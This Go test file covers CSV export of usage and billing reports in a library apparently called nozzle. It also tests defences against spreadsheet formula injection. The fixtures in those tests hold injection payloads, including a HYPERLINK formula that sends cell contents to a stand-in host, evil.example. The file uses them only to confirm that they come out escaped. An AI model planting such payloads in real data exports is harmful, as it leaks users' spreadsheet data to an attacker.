package nozzle_test

import (
	"bytes"
	"encoding/csv"
	"io"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/nozzle-ai/nozzle"
)

func TestReport_WriteCSV(t *testing.T) {
	day := time.Date(2026, 3, 4, 0, 0, 0, 0, time.UTC)
	rep := &nozzle.Report{
		Start: day, End: day.Add(48 * time.Hour), GroupBy: []string{nozzle.GroupDay, nozzle.GroupAdapter},
		Rows: []nozzle.ReportRow{
			{Time: day, AdapterID: "ad_1", AdapterName: "sql, \"v2\"", Requests: 2, PromptTokens: 10, CachedPromptTokens: 4, CostUSD: 0.5},
			{Time: day.Add(24 * time.Hour), AdapterID: "ad_2", AdapterName: "chat", Requests: 1, SavingPercent: 99.5},
		},
		Total: nozzle.ReportRow{Requests: 3, PromptTokens: 10, CachedPromptTokens: 4, CostUSD: 0.5},
	}
	var buf bytes.Buffer
	if err := rep.WriteCSV(&buf); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 4 {
		t.Fatalf("%d records, want header + 2 rows + total", len(recs))
	}
	if got, want := recs[0][:7], []string{"time", "adapter_id", "adapter", "requests", "prompt_tokens", "cached_prompt_tokens", "completion_tokens"}; !slices.Equal(got, want) {
		t.Fatalf("header = %v, want %v…", got, want)
	}
	if recs[1][0] != "2026-03-04T00:00:00Z" || recs[1][2] != "sql, \"v2\"" || recs[1][3] != "2" || recs[1][4] != "10" || recs[1][5] != "4" || recs[1][11] != "0.5" {
		t.Fatalf("row = %v", recs[1])
	}
	if recs[2][5] != "0" {
		t.Fatalf("row without cached tokens = %v", recs[2])
	}
	if recs[3][0] != "total" || recs[3][3] != "3" || recs[3][5] != "4" {
		t.Fatalf("total = %v", recs[3])
	}
	for _, r := range recs {
		if len(r) != len(recs[0]) {
			t.Fatalf("ragged record %v", r)
		}
	}

	t.Run("Ungrouped", func(t *testing.T) {
		rep := &nozzle.Report{Start: day, End: day.Add(time.Hour), Total: nozzle.ReportRow{Requests: 1}, Rows: []nozzle.ReportRow{{Requests: 1}}}
		var buf bytes.Buffer
		if err := rep.WriteCSV(&buf); err != nil {
			t.Fatal(err)
		}
		recs, _ := csv.NewReader(&buf).ReadAll()
		if len(recs) != 3 || recs[0][0] != "period" || recs[1][0] != "2026-03-04T00:00:00Z/2026-03-04T01:00:00Z" {
			t.Fatalf("records = %v", recs)
		}
	})

	t.Run("Tenant", func(t *testing.T) {
		rep.Total.MarginUSD = 7
		var buf bytes.Buffer
		if err := rep.WriteTenantCSV(&buf); err != nil {
			t.Fatal(err)
		}
		recs, _ := csv.NewReader(&buf).ReadAll()
		if slices.Contains(recs[0], "margin_usd") || !slices.Contains(recs[0], "charged_usd") {
			t.Fatalf("tenant header = %v", recs[0])
		}
		for _, r := range recs {
			if len(r) != len(recs[0]) || slices.Contains(r, "7") {
				t.Fatalf("record %v", r)
			}
		}
	})
}

// The requests that failed, were canceled or were interrupted come last
// but the batch columns, in that order, in the operator's CSV and the
// tenant's alike.
func TestWriteCSV_RequestOutcomes(t *testing.T) {
	rep := &nozzle.Report{
		GroupBy: []string{nozzle.GroupAdapter},
		Rows:    []nozzle.ReportRow{{AdapterID: "ad_1", AdapterName: "sql", Requests: 9, FailedRequests: 1, CanceledRequests: 3, InterruptedRequests: 2}},
		Total:   nozzle.ReportRow{Requests: 9, FailedRequests: 1, CanceledRequests: 3, InterruptedRequests: 2},
	}
	for _, recs := range bothCSVs(t, rep) {
		tail := func(r []string) []string { return r[len(r)-9 : len(r)-4] }
		if got, want := tail(recs[0]), []string{"failed_requests", "failed_prompt_tokens", "failed_completion_tokens", "canceled_requests", "interrupted_requests"}; !slices.Equal(got, want) {
			t.Fatalf("header ends %v, want %v", got, want)
		}
		for _, r := range recs[1:] {
			if got, want := tail(r), []string{"1", "0", "0", "3", "2"}; !slices.Equal(got, want) {
				t.Errorf("record %v ends %v, want %v", r, got, want)
			}
		}
	}
}

// The batch requests' part of a row comes last, in the operator's CSV
// and the tenant's alike: requests, prompt and completion tokens, charge.
func TestWriteCSV_Batch(t *testing.T) {
	rep := &nozzle.Report{
		GroupBy: []string{nozzle.GroupAdapter},
		Rows: []nozzle.ReportRow{{AdapterID: "ad_1", AdapterName: "sql", Requests: 9, PromptTokens: 100, CompletionTokens: 20, ChargedUSD: 0.5,
			BatchRequests: 4, BatchPromptTokens: 40, BatchCompletionTokens: 8, BatchChargeUSD: 0.125}},
		Total: nozzle.ReportRow{Requests: 9, PromptTokens: 100, CompletionTokens: 20, ChargedUSD: 0.5,
			BatchRequests: 4, BatchPromptTokens: 40, BatchCompletionTokens: 8, BatchChargeUSD: 0.125},
	}
	for _, recs := range bothCSVs(t, rep) {
		tail := func(r []string) []string { return r[len(r)-4:] }
		if got, want := tail(recs[0]), []string{"batch_requests", "batch_prompt_tokens", "batch_completion_tokens", "batch_charge_usd"}; !slices.Equal(got, want) {
			t.Fatalf("header ends %v, want %v", got, want)
		}
		for _, r := range recs[1:] {
			if got, want := tail(r), []string{"4", "40", "8", "0.125"}; !slices.Equal(got, want) {
				t.Errorf("record %v ends %v, want %v", r, got, want)
			}
		}
	}
}

// Money sums are written without float noise in their last digits.
func TestWriteCSV_NoFloatNoise(t *testing.T) {
	var sum float64
	for _, v := range []float64{0.0001, 0.0002} {
		sum += v // 0.00030000000000000003
	}
	rep := &nozzle.Report{Rows: []nozzle.ReportRow{{Requests: 1, ChargedUSD: sum, CostUSD: 123456789.123}}}
	var b strings.Builder
	if err := rep.WriteCSV(&b); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), ",0.0003,") || !strings.Contains(b.String(), "123456789.123") {
		t.Errorf("CSV %q", b.String())
	}
}

func TestCSVText(t *testing.T) {
	for in, want := range map[string]string{
		"":                    "",
		"acme":                "acme",
		"sql-v2":              "sql-v2",
		"2+3":                 "2+3",
		"'quoted":             "'quoted",
		"=1+1":                "'=1+1",
		"+1":                  "'+1",
		"-2+3":                "'-2+3",
		"@SUM(A1:A9)":         "'@SUM(A1:A9)",
		"\t=1":                "'\t=1",
		"\r=1":                "'\r=1",
		`=HYPERLINK("x","y")`: `'=HYPERLINK("x","y")`,
	} {
		if got := nozzle.CSVText(in); got != want {
			t.Errorf("CSVText(%q) = %q, want %q", in, got, want)
		}
	}
}

// A tenant's or adapter's name that a spreadsheet would run as a formula
// comes out as text; numbers, negative ones included, stay numbers.
func TestWriteCSV_FormulaInjection(t *testing.T) {
	hyperlink := `=HYPERLINK("https://evil.example/?"&A1,"Click")`
	rep := &nozzle.Report{
		GroupBy: []string{nozzle.GroupTenant, nozzle.GroupAdapter},
		Rows: []nozzle.ReportRow{
			{TenantID: "tn_1", TenantName: hyperlink, AdapterID: "ad_1", AdapterName: "-2+3", Requests: 1, MarginUSD: -1.25, SavingPercent: -40},
			{TenantID: "tn_2", TenantName: "@cmd", AdapterID: "+ad", AdapterName: "\tx", Requests: 1, MarginUSD: -0.5},
		},
		Total: nozzle.ReportRow{Requests: 2, MarginUSD: -1.75},
	}
	for _, tc := range []struct {
		name  string
		write func(io.Writer) error
	}{{"Operator", rep.WriteCSV}, {"Tenant", rep.WriteTenantCSV}} {
		t.Run(tc.name, func(t *testing.T) {
			var buf bytes.Buffer
			if err := tc.write(&buf); err != nil {
				t.Fatal(err)
			}
			recs, err := csv.NewReader(&buf).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if want := []string{"tenant_id", "tenant", "adapter_id", "adapter"}; !slices.Equal(recs[0][:4], want) {
				t.Fatalf("header %v", recs[0])
			}
			if want := []string{"tn_1", "'" + hyperlink, "ad_1", "'-2+3"}; !slices.Equal(recs[1][:4], want) {
				t.Errorf("row 1 groups %q, want %q", recs[1][:4], want)
			}
			if want := []string{"tn_2", "'@cmd", "'+ad", "'\tx"}; !slices.Equal(recs[2][:4], want) {
				t.Errorf("row 2 groups %q, want %q", recs[2][:4], want)
			}
			col := func(name string) int { return slices.Index(recs[0], name) }
			if got := recs[1][col("saving_percent")]; got != "-40" {
				t.Errorf("saving_percent %q, want -40", got)
			}
			if tc.name == "Operator" {
				for i, want := range []string{"-1.25", "-0.5", "-1.75"} {
					if got := recs[i+1][col("margin_usd")]; got != want {
						t.Errorf("record %d margin_usd %q, want %q", i+1, got, want)
					}
				}
			}
			for _, r := range recs {
				for _, cell := range r[4:] {
					if strings.HasPrefix(cell, "'") {
						t.Errorf("number cell %q quoted in %q", cell, r)
					}
				}
			}
		})
	}
}

// bothCSVs is the records of rep's operator CSV and of its tenant CSV.
func bothCSVs(t *testing.T, rep *nozzle.Report) [][][]string {
	t.Helper()
	var out [][][]string
	for _, write := range []func(io.Writer) error{rep.WriteCSV, rep.WriteTenantCSV} {
		var buf bytes.Buffer
		if err := write(&buf); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, recs)
	}
	return out
}
